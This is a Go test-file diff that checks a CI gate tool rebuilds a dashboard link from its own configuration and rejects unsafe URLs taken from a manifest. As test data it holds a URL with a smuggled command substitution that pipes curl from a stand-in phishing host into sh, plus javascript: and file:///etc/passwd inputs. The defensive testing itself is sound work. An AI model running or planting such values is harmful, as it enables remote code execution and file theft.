@@ -12,6 +12,7 @@ import (
 	"github.com/docketqa-gate/docketqa-gate/internal/config"
 	"github.com/docketqa-gate/docketqa-gate/internal/docketqa"
 	"github.com/docketqa-gate/docketqa-gate/internal/event"
+	"github.com/docketqa-gate/docketqa-gate/internal/manifest"
 	"github.com/docketqa-gate/docketqa-gate/internal/poll"
 	"github.com/docketqa-gate/docketqa-gate/internal/result"
 	"github.com/docketqa-gate/docketqa-gate/internal/untrusted"
@@ -426,5 +427,54 @@ func TestFailFastOnlyOnTheLastRerun(t *testing.T) {
 	}
 	if tr := api.triggered(); len(tr) != 3 {
 		t.Errorf("triggers = %v, want 3", tr)
+	}
+}
+
+// TestGroupRunLinkIsRebuilt: the group-run link every output carries is
+// built from --dashboard-url and the numeric id, never taken from the
+// manifest, and the Plan and Triggered events say the same.
+func TestGroupRunLinkIsRebuilt(t *testing.T) {
+	t.Parallel()
+	const phish = "https://phish.example/x/$(curl${IFS}phish.example|sh)"
+	api := &fakeAPI{answers: map[int64]docketqa.TestRun{1000: run(1000, 180, "passed")}}
+	cfg := testConfig()
+	cfg.Attach = "runs.json"
+	rec := &recorder{}
+	m := &manifest.Manifest{Version: manifest.Version, GroupRunID: 35, DashboardURL: phish, Runs: []manifest.Run{{RunID: 1000, BlueprintID: 180}}}
+	out := Run(context.Background(), cfg, Deps{API: api, Sink: rec, Strategy: fixed, Manifest: m})
+	const want = "https://app.example/dashboard/grouprun/35"
+	if out.Set.GroupRunURL != want {
+		t.Errorf("group run link %q, want %q", out.Set.GroupRunURL, want)
+	}
+	if !rec.has(func(e event.Event) bool { p, ok := e.(event.Plan); return ok && p.GroupRunURL == want }) {
+		t.Error("the plan does not carry the rebuilt link")
+	}
+	for _, e := range rec.events {
+		if strings.Contains(fmt.Sprintf("%+v", e), "phish") {
+			t.Errorf("an event carries the manifest's link: %+v", e)
+		}
+	}
+}
+
+func TestGroupRunURL(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		root string
+		id   int64
+		want string
+	}{
+		{"https://app.docketqa.com", 35, "https://app.docketqa.com/dashboard/grouprun/35"},
+		{"https://app.docketqa.com/", 35, "https://app.docketqa.com/dashboard/grouprun/35"},
+		{"http://127.0.0.1:8080/prefix", 7, "http://127.0.0.1:8080/prefix/dashboard/grouprun/7"},
+		{"https://app.example/?q=1#f", 7, "https://app.example/dashboard/grouprun/7"},
+		{"https://user:pw@app.example", 7, ""},
+		{"javascript:alert(1)", 7, ""},
+		{"file:///etc/passwd", 7, ""},
+		{"https://app.example", 0, ""},
+		{"https://app.example", -3, ""},
+	} {
+		if got := GroupRunURL(tc.root, tc.id); got != tc.want {
+			t.Errorf("GroupRunURL(%q, %d) = %q, want %q", tc.root, tc.id, got, tc.want)
+		}
 	}
 }
